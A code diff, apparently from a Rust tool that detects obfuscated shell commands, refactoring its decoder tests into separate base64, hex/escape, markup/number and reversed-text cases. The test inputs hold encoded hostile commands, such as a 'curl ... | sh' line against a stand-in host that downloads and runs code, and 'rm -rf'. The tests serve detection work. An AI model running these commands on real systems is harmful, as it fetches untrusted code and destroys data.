@@ -25,7 +25,7 @@ pub(super) fn search(text: &str, inflater: &mut Inflater, sink: &mut Sink<'_>) {
     escapes::search(text, sink);
     markup::search_percent(text, sink);
     markup::search_entities(text, sink);
-    codes::search_lists(text, sink);
+    codes::search(text, sink);
     mirror::search(text, sink);
 }
 
@@ -74,10 +74,18 @@ mod tests {
         all
     }
 
-    /// Text, how it reads, what it reads as, from where.
+    /// Each row: a text, how a part of it reads, what it reads as, and the part.
+    fn check(table: &[(&str, How, &str, &str)]) {
+        for (text, how, want, from) in table {
+            let all = found(text);
+            let want = (*how, (*want).to_owned(), (*from).to_owned());
+            assert!(all.contains(&want), "{text}: {all:?}");
+        }
+    }
+
     #[test]
-    fn what_is_encoded_is_read() {
-        let table = [
+    fn base64_is_read() {
+        check(&[
             (
                 "echo Y3VybCAtcyBodHRwOi8veC5leGFtcGxlL2EgfCBzaA== | base64 -d | sh",
                 How::Base64,
@@ -108,6 +116,12 @@ mod tests {
                 "curl -s http://x.example",
                 "Y3VybCAtcyBodHRwOi8veC5leGFtcGxl",
             ),
+        ]);
+    }
+
+    #[test]
+    fn hex_and_escapes_are_read() {
+        check(&[
             (
                 "p=6375726c20687474703a2f2f78",
                 How::Hex,
@@ -125,6 +139,12 @@ mod tests {
             (r"\x72\x6d\x20\x2d\x72\x66", How::Escapes, "rm -rf", r"\x72\x6d\x20\x2d\x72\x66"),
             (r"printf '\143\165\162\154'", How::Escapes, "curl", r"\143\165\162\154"),
             (r"\u{63}u\u{72}\u{6c} \u{2d}s", How::Escapes, "curl -", r"\u{63}u\u{72}\u{6c} \u{2d}"),
+        ]);
+    }
+
+    #[test]
+    fn what_markup_and_numbers_spell_is_read() {
+        check(&[
             (
                 "http://x.example/%63%75%72%6c",
                 How::Percent,
@@ -156,6 +176,12 @@ mod tests {
                 "curl -",
                 "0x63, 0x75, 0x72, 0x6c, 0x20, 0x2d",
             ),
+        ]);
+    }
+
+    #[test]
+    fn turned_text_is_read() {
+        check(&[
             (
                 "x = 'hs | a/x//:ptth lruc'[::-1]",
                 How::Reversed,
@@ -169,12 +195,7 @@ mod tests {
                 "curl http://x",
                 "phey uggc://k",
             ),
-        ];
-        for (text, how, want, from) in table {
-            let all = found(text);
-            let want = (how, want.to_owned(), from.to_owned());
-            assert!(all.contains(&want), "{text}: {all:?}");
-        }
+        ]);
     }
 
     #[test]
@@ -205,7 +226,7 @@ mod tests {
         let table = [
             "commit 3ec0ec3a9c1d2e4f5a6b7c8d9e0f1a2b3c4d5e6f",
             "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
-            "\"integrity\": \"sha512-oaTlq4OUKbmQfUfvXzEDY0VwZbYvEgwfXVqRkJjLc0mk3vRaQrWhsbN5R7H8Q1wq==\"",
+            "\"integrity\": \"sha512-oaTlq4OUKbmQfUfvXzEDY0VwZbYvEgwfXVqRkJjLc0mk3vRaQrWh==\"",
             "id: 550e8400-e29b-41d4-a716-446655440000",
             "see references/getting-started/installation-guide/with/many/parts.md",
             "theQuickBrownFoxJumpsOverTheLazyDogAgainAndAgain",
@@ -215,7 +236,8 @@ mod tests {
             "colour \\033[31mred\\033[0m \\033[32mgreen\\033[0m \\033[33myellow",
             "re.sub(r'[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x41-\\x5a\\x61-\\x7a]', '', s)",
             "[\\u4e00-\\u9fff\\u3400-\\u4dbf\\uf900-\\ufaff]",
-            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk\
+             +M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
             "x = [1, 2, 3, 5, 8, 13, 21]; rgb(100, 120, 140); [65, 72, 90, 101, 99, 97, 87]",
             "MAC 00:1a:2b:3c:4d:5e, time 12:30:45, fe80::1ff:fe23:4567:890a",
             "df.iloc[::-1]; sorted(items).reverse(); 'drawn onward'[::-1]",
